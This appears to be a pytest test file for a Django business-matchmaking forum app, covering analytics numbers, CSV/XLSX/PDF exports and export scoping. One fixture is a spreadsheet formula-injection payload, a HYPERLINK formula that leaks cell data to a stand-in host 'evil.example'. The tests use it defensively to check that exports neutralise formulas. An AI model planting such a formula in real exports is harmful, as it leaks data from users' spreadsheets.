"""Exports return the right rows; analytics numbers are right on a small fixture."""

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from pypdf import PdfReader

from matchforum.console.selectors import (
    acceptance_by_kind,
    meetings_by_country_pair,
    meetings_without_request,
    no_show_rate,
    request_funnel,
    request_funnel_steps,
    table_use_per_slot,
)
from matchforum.forums.models import Slot
from matchforum.meetings.models import MeetingStatus
from matchforum.meetings.services import (
    meeting_book,
    meeting_place,
    meeting_request_accept,
    meeting_request_decline,
    meeting_request_send,
)
from matchforum.outcomes.models import MeetingOutcome
from tests.factories import meeting_build

pytestmark = pytest.mark.django_db

AFTER = dt.datetime(2027, 3, 18, tzinfo=dt.UTC)  # the test forum is over


@pytest.fixture
def small(forum, make_delegate):
    """UA producer meets LT investor (held) and PL buyer (no-show); LT declines a PL request."""
    ua = make_delegate(country="UA", kind="producer", name="Kyiv Optics")
    lt = make_delegate(country="LT", kind="investor", name="Vilnius Capital")
    pl = make_delegate(country="PL", kind="buyer", name="Warsaw Procurement")
    held = meeting_request_accept(
        meeting_request=meeting_request_send(sender=ua, recipient_organisation=lt.organisation),
        responder=lt,
    )
    missed = meeting_request_accept(
        meeting_request=meeting_request_send(sender=ua, recipient_organisation=pl.organisation),
        responder=pl,
    )
    meeting_request_decline(
        meeting_request=meeting_request_send(sender=pl, recipient_organisation=lt.organisation),
        responder=lt,
    )
    slots = list(Slot.objects.filter(session__day__forum=forum).order_by("starts_at"))
    held = meeting_place(meeting=held, slot=slots[0], table=forum.tables.get(number=1))
    missed = meeting_place(meeting=missed, slot=slots[1], table=forum.tables.get(number=1))
    held.status = MeetingStatus.HELD
    held.save()
    missed.status = MeetingStatus.NO_SHOW
    missed.save()
    MeetingOutcome.objects.create(
        meeting=held,
        organisation=ua.organisation,
        outcome="nda",
        rating=4,
        recorded_at=held.created_at,
    )
    return {"ua": ua, "lt": lt, "pl": pl, "held": held, "missed": missed, "slots": slots}


def test_analytics_numbers(forum, small):
    pairs = meetings_by_country_pair(forum=forum)
    assert pairs["countries"] == ["UA", "LT", "PL"]
    assert pairs["matrix"] == [[0, 1, 1], [1, 0, 0], [1, 0, 0]]
    assert [(s["label"], s["value"]) for s in request_funnel(forum=forum, now=AFTER)] == [
        ("sent", 3),
        ("accepted", 2),
        ("scheduled", 2),
        ("held", 1),
        ("outcome", 1),
    ]
    kinds = {
        row["label"]: (row["accepted"], row["answered"], row["value"])
        for row in acceptance_by_kind(forum=forum)
    }
    assert kinds == {"Government or military buyer": (1, 1, 100), "Investor": (1, 2, 50)}
    assert no_show_rate(forum=forum, now=AFTER) == {"held": 1, "no_show": 1, "percent": 50}
    use = table_use_per_slot(forum=forum)
    assert [row["used"] for row in use[:3]] == [1, 1, 0]
    assert use[0]["tables"] == 3


def test_rates_count_only_meetings_whose_time_has_passed(forum, small):
    first, second = small["slots"][0], small["slots"][1]
    # Between the two slots: the held meeting is over, the missed one has not begun.
    between = first.ends_at + (second.starts_at - first.ends_at) / 2
    assert no_show_rate(forum=forum, now=between) == {"held": 1, "no_show": 0, "percent": 0}
    before = first.starts_at - dt.timedelta(days=60)
    assert no_show_rate(forum=forum, now=before) == {"held": 0, "no_show": 0, "percent": 0}
    steps = dict((s["label"], s["value"]) for s in request_funnel(forum=forum, now=before))
    assert (steps["scheduled"], steps["held"], steps["outcome"]) == (2, 0, 0)


def _assert_funnel_nested(forum, now):
    steps = dict(request_funnel_steps(forum=forum, now=now))
    sent = set(steps["sent"].values_list("pk", flat=True))
    accepted = set(steps["accepted"].values_list("pk", flat=True))
    scheduled_requests = set(steps["scheduled"].values_list("request_id", flat=True))
    scheduled = set(steps["scheduled"].values_list("pk", flat=True))
    held = set(steps["held"].values_list("pk", flat=True))
    outcome = set(steps["outcome"].values_list("pk", flat=True))
    assert accepted <= sent
    assert scheduled_requests <= accepted
    assert held <= scheduled
    assert outcome <= held
    counts = [s["value"] for s in request_funnel(forum=forum, now=now)]
    assert counts == sorted(counts, reverse=True)
    return counts


def test_a_meeting_without_request_is_left_out_of_the_funnel_not_added_to_it(
    forum, small, organiser
):
    walk_in = meeting_book(
        forum=forum,
        user=organiser,
        delegate_a=small["lt"],
        delegate_b=small["pl"],
        slot=small["slots"][2],
        table=forum.tables.get(number=2),
        walk_in=True,
    )
    assert walk_in.request_id is None
    counts = _assert_funnel_nested(forum, AFTER)
    assert counts == [3, 2, 2, 1, 1]  # the walk-in is not "scheduled" without a request
    assert meetings_without_request(forum=forum) == 1


def test_the_funnel_of_the_demo_forum_is_nested(db, organiser):
    from matchforum.demo.services import demo_forum_seed

    forum = demo_forum_seed(size="small", seed=7, scale=0.1, write_credentials=False).forum
    slots = list(Slot.objects.filter(session__day__forum=forum).order_by("starts_at"))
    tables = list(forum.tables.order_by("number"))
    accepted = list(
        forum.meetings.filter(status=MeetingStatus.ACCEPTED, request__isnull=False).order_by("pk")
    )
    assert len(accepted) >= 6, "the demo forum has accepted meetings"
    # Place some, hold some, give one an outcome, and add a meeting without a request.
    placed = accepted[:4]
    for i, (meeting, status) in enumerate(
        zip(placed, ["held", "held", "no_show", "scheduled"], strict=True)
    ):
        # Set up as rows: the demo's delegates' unavailable slots do not matter here.
        forum.meetings.filter(pk=meeting.pk).update(status=status, slot=slots[i], table=tables[0])
    MeetingOutcome.objects.create(
        meeting=placed[0],
        organisation=placed[0].organisation_a,
        outcome="nda",
        rating=5,
        recorded_at=placed[0].created_at,
    )
    a, b = placed[0].delegate_a, accepted[5].delegate_b
    if a.organisation_id != b.organisation_id:
        meeting_build(a, b, status=MeetingStatus.SCHEDULED, slot=slots[-1], table=tables[1])
    after = slots[-1].ends_at + dt.timedelta(hours=1)
    counts = _assert_funnel_nested(forum, after)
    assert counts[2:] == [4, 2, 1]


def test_analytics_page_renders_svg_charts(client, forum, small, organiser):
    client.force_login(organiser)
    html = client.get(reverse("console:analytics")).content.decode()
    assert html.count("<svg") == 6
    assert html.count('class="cell"') == 9  # the 3 x 3 country matrix


def test_csv_export_of_meetings_has_the_right_rows(client, forum, small, organiser):
    client.force_login(organiser)
    response = client.get(reverse("console:export", args=["meetings", "csv"]))
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0][:6] == [
        "id",
        "organisation_a",
        "delegate_a",
        "organisation_b",
        "delegate_b",
        "status",
    ]
    body = {(r[1], r[3], r[5], r[6], r[7]) for r in rows[1:]}
    assert body == {
        ("Kyiv Optics", "Vilnius Capital", "held", "2027-03-16 09:00", "1"),
        ("Kyiv Optics", "Warsaw Procurement", "no_show", "2027-03-16 09:30", "1"),
    }


def test_xlsx_export_of_organisations(client, forum, small, organiser):
    client.force_login(organiser)
    response = client.get(reverse("console:export", args=["organisations", "xlsx"]))
    sheet = load_workbook(io.BytesIO(response.content)).active
    values = list(sheet.values)
    assert values[0][:3] == ("id", "name", "country")
    assert sorted(v[1] for v in values[1:]) == [
        "Kyiv Optics",
        "Vilnius Capital",
        "Warsaw Procurement",
    ]


def test_running_order_pdf_lists_the_pairs_per_table(client, forum, small, organiser):
    client.force_login(organiser)
    response = client.get(reverse("console:running_order_pdf"))
    assert response["Content-Type"] == "application/pdf"
    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(response.content)).pages)
    assert "Table 1" in text
    assert "Vilnius Capital" in text and "Warsaw Procurement" in text
    cards = client.get(reverse("console:table_cards_pdf"))
    assert len(PdfReader(io.BytesIO(cards.content)).pages) == 3  # one card per table in use


def test_unknown_export_is_404(client, forum, organiser):
    client.force_login(organiser)
    assert client.get(reverse("console:export", args=["secrets", "csv"])).status_code == 404


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Click for details")'


@pytest.mark.parametrize("name", ["organisations", "meetings", "requests", "delegates"])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exports_write_a_formula_in_a_name_as_inert_text(
    client, forum, small, organiser, name, fmt
):
    organisation = small["ua"].organisation
    organisation.name = FORMULA
    organisation.save()
    client.force_login(organiser)
    response = client.get(reverse("console:export", args=[name, fmt]))
    if fmt == "csv":
        cells = [c for row in csv.reader(io.StringIO(response.content.decode())) for c in row]
        assert "'" + FORMULA in cells
        assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
    else:
        sheet = load_workbook(io.BytesIO(response.content)).active
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert "'" + FORMULA in [c.value for c in cells]
        assert all(c.data_type != "f" for c in cells)


@pytest.mark.parametrize("value", ["+1", "-1+2", "@SUM(A1)", "\tx", "\rx", "=1"])
def test_safe_cell_prefixes_each_formula_start(value):
    from matchforum.core.spreadsheet import safe_cell

    assert safe_cell(value) == "'" + value
    assert safe_cell(-3) == -3
    assert safe_cell("Kyiv Optics") == "Kyiv Optics"


def test_an_export_narrowed_to_one_organisation_has_only_its_rows(client, forum, small, organiser):
    from matchforum.organisations.models import Organisation

    client.force_login(organiser)
    url = reverse("console:export", args=["meetings", "csv"])
    vilnius = Organisation.objects.get(name="Vilnius Capital")
    response = client.get(url, {"organisation": vilnius.pk})
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert [(r[1], r[3]) for r in rows[1:]] == [("Kyiv Optics", "Vilnius Capital")]
    refused = client.get(url, {"organisation": 10**9})
    assert refused.status_code == 400
    assert "Choose an organisation you may export." in refused.content.decode()
    page = client.get(reverse("console:meetings"), {"organisation": vilnius.pk})
    assert f'{url}?organisation={vilnius.pk}"' in page.content.decode()
